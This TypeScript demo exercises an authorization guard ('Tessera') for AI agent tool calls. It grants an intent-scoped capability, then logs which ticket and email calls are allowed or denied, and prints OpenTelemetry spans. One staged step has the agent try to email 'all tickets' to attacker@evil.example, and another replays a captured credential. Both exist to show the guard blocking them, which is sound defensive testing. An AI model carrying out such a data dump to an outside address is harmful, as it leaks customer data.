/**
 * A short agent task through the guard, with the embedded defaults: generated keys, the memory
 * store, and the OpenTelemetry SDK exporting spans to memory so they can be printed.
 */
import { NodeSDK } from '@opentelemetry/sdk-node';
import { InMemorySpanExporter, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-base';
import { z } from 'zod';
import { createAuthority, createGuard, ToolDeniedError, verifyCallCredential, CredentialRejectedError, guardTool } from '../src/index.js';

interface Row {
  step: string;
  tool: string;
  outcome: string;
  code: string;
  reason: string;
}

function table(rows: Record<string, string>[], out: (line: string) => void): void {
  const cols = Object.keys(rows[0] ?? {});
  const width = (c: string) => Math.min(70, Math.max(c.length, ...rows.map((r) => (r[c] ?? '').length)));
  const cell = (s: string, w: number) => (s.length > w ? `${s.slice(0, w - 1)}…` : s.padEnd(w));
  out(cols.map((c) => cell(c, width(c))).join('  '));
  out(cols.map((c) => '-'.repeat(width(c))).join('  '));
  for (const r of rows) out(cols.map((c) => cell(r[c] ?? '', width(c))).join('  '));
}

export async function runDemo(out: (line: string) => void = console.log): Promise<{ rows: Row[]; spans: number }> {
  const exporter = new InMemorySpanExporter();
  // No resource detection (its asynchronous attributes would delay export) and no log exporter:
  // the demo prints what it records instead of sending it anywhere.
  const sdk = new NodeSDK({ spanProcessors: [new SimpleSpanProcessor(exporter)], autoDetectResources: false, logRecordProcessors: [] });
  sdk.start();
  try {
    // Control plane: an authority grants one intent-scoped capability.
    const authority = await createAuthority({ issuer: 'https://authz.example.com' });
    const capability = await authority.grant({
      agent: 'spiffe://example.org/agents/support',
      audience: 'support-app',
      intent: { id: 'ticket-4711', purpose: 'Answer ticket 4711' },
      tools: {
        'tickets.read': { args: { ticketId: { eq: '4711' } } },
        'email.send': { args: { to: { endsWith: '@example.com' } }, maxCalls: 1 },
      },
      ttl: '5m',
    });

    // Data plane: the guard where the tools run. email.send is external, so a human approves it;
    // here an approver that says yes stands in for the on-call person.
    const guard = createGuard({
      audience: 'support-app',
      trust: { issuer: 'https://authz.example.com', jwks: authority.jwks() },
      approver: async (req) => ({ approved: req.tool === 'email.send', approver: 'oncall@example.com' }),
    });

    // The downstream mail service accepts each call credential once.
    const presented: string[] = [];
    const mailService = async (credential: string) => {
      await verifyCallCredential(credential, {
        jwks: guard.credentialJwks(),
        issuer: guard.credentialIssuer,
        audience: 'mail-api',
        store: guard.store,
        tool: 'email.send',
      });
      presented.push(credential);
    };

    const readTicket = guardTool(
      guard,
      { name: 'tickets.read', description: 'Read a support ticket', input: z.object({ ticketId: z.string() }), risk: 'read' },
      async ({ ticketId }) => ({ ticketId, subject: 'Cannot log in', from: 'dana@example.com' }),
    );
    const sendEmail = guardTool(
      guard,
      {
        name: 'email.send',
        description: 'Send an email',
        input: z.object({ to: z.string().email(), subject: z.string(), body: z.string() }),
        risk: 'external',
        credential: { audience: 'mail-api' },
      },
      async (args, ctx) => {
        await mailService(ctx.credential.token);
        ctx.sideEffect('email.sent', { to: args.to });
        return { sent: true };
      },
    );
    const deleteTicket = guardTool(
      guard,
      { name: 'tickets.delete', description: 'Delete a ticket', input: z.object({ ticketId: z.string() }), risk: 'admin' },
      async () => ({ deleted: true }),
    );

    // Warm-up, not part of the table: the process's first guarded call also pays for loading and
    // compiling the code paths (JIT) and importing keys, which would swamp the first figure.
    const warmUp = guardTool(guard, { name: 'demo.warm-up', description: 'Warm-up', input: z.object({}), risk: 'read' }, async () => null);
    const warmUpCapability = await authority.grant({
      agent: 'spiffe://example.org/agents/support',
      audience: 'support-app',
      intent: { id: 'warm-up', purpose: 'Warm up the guard before the demo' },
      tools: { 'demo.warm-up': {} },
      ttl: '1m',
    });
    for (let i = 0; i < 20; i++) await guard.withCapability(warmUpCapability, () => warmUp({}));
    exporter.reset();

    const rows: Row[] = [];
    const attempt = async (step: string, tool: string, call: () => Promise<unknown>) => {
      try {
        await call();
        rows.push({ step, tool, outcome: 'allowed', code: '', reason: '' });
      } catch (err) {
        if (err instanceof ToolDeniedError || err instanceof CredentialRejectedError) {
          rows.push({ step, tool, outcome: 'denied', code: err.code, reason: err.reason });
        } else throw err;
      }
    };

    // The agent runtime binds the capability; the model never sees it.
    await guard.withCapability(capability, async () => {
      await attempt('read the ticket', 'tickets.read', () => readTicket({ ticketId: '4711' }));
      await attempt('reply to the customer', 'email.send', () =>
        sendEmail({ to: 'dana@example.com', subject: 'Re: Cannot log in', body: 'Reset link sent.' }),
      );
      await attempt('read another ticket', 'tickets.read', () => readTicket({ ticketId: '4712' }));
      await attempt('delete the ticket', 'tickets.delete', () => deleteTicket({ ticketId: '4711' }));
      await attempt('email an outsider', 'email.send', () =>
        sendEmail({ to: 'attacker@evil.example', subject: 'dump', body: 'all tickets' }),
      );
      await attempt('email again', 'email.send', () => sendEmail({ to: 'ops@example.com', subject: 'FYI', body: 'done' }));
    });
    // Someone who captured the credential tries to use it again, downstream.
    await attempt('replay the credential', 'mail-api', () => mailService(presented[0]!));

    out('Tessera demo: one agent, one intent ("Answer ticket 4711")\n');
    table(rows.map((r) => ({ ...r })), out);

    const spans = exporter.getFinishedSpans();
    out(`\nSpans recorded (${spans.length}):\n`);
    table(
      spans.map((s) => ({
        span: s.name,
        decision: String(s.attributes['tessera.decision'] ?? ''),
        'error.type': String(s.attributes['error.type'] ?? ''),
        approval: String(s.attributes['tessera.approval.decision'] ?? ''),
        'side effects': s.events.map((e) => String(e.attributes?.['tessera.side_effect.kind'])).join(', '),
        'overhead µs': Number(s.attributes['tessera.guard.overhead_us'] ?? 0).toFixed(0),
      })),
      out,
    );
    out(
      '\noverhead µs: the time the guard added to a call: everything but the tool\'s own run, so it includes any wait for\n' +
        'approval. The guard warmed up on another capability first; the first call on each capability still verifies its\n' +
        'signature (cached afterwards). On a busy machine these figures vary a lot from run to run.',
    );
    return { rows, spans: spans.length };
  } finally {
    await sdk.shutdown();
  }
}
